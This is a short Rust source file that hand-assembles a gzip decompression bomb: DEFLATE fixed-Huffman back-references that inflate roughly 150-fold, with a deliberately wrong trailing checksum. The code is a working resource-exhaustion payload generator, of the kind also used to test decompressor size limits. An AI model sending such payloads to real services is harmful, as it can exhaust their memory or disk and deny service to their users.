//! A gzip bomb: RFC 1951 says in 13 bits "the last byte, 258 times more", over and over.

/// About `kib` KiB on the wire that inflate to 150 times as much.
pub fn gzip(kib: usize) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.put(1, 1); // the last block
    bits.put(1, 2); // fixed codes
    bits.put_code(0x30, 8); // the literal 0
    while bits.bytes.len() < kib * 1024 {
        bits.put_code(0xc5, 8); // length 258
        bits.put_code(0, 5); // distance 1
    }
    bits.put_code(0, 7); // end of block
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]; // RFC 1952, section 2.3
    bytes.extend(bits.bytes);
    bytes.extend([0; 8]); // a wrong checksum: whoever gets this far has inflated everything
    bytes
}

#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u8,
}

impl Bits {
    /// Numbers go least significant bit first.
    fn put(&mut self, value: u16, count: u8) {
        for at in 0..count {
            if self.used == 0 {
                self.bytes.push(0);
            }
            let bit = u8::from(value >> at & 1 == 1);
            *self.bytes.last_mut().expect("just pushed") |= bit << self.used;
            self.used = (self.used + 1) % 8;
        }
    }

    /// Huffman codes go most significant bit first.
    fn put_code(&mut self, code: u16, count: u8) {
        for at in (0..count).rev() {
            self.put(code >> at & 1, 1);
        }
    }
}
